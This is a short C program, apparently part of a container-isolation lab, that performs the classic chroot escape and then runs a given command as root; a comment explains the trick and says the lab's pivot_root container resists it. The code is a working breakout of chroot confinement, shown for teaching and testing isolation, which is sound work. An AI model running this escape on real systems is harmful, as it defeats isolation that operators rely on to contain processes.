/*
 * The classic chroot escape (examples/LAB.md, part 1): chroot() into a subdirectory without
 * entering it, so that the working directory is left outside the new root; ".." from there
 * is never stopped, so climb to the real / and make it the root again; then run the command
 * given. It works from a chroot (as root); in a minictr container it ends at the container's
 * own / (pivot_root left no path to the host's). Build: cc -static -o escape chroot-escape.c
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: escape COMMAND [ARG...]\n"); return 2; }
  mkdir("x", 0755);
  if (chroot("x") < 0) { perror("chroot x"); return 1; }
  for (int i = 0; i < 100; i++) chdir("..");
  if (chroot(".") < 0) { perror("chroot ."); return 1; }
  execv(argv[1], argv + 1);
  perror(argv[1]);
  return 1;
}
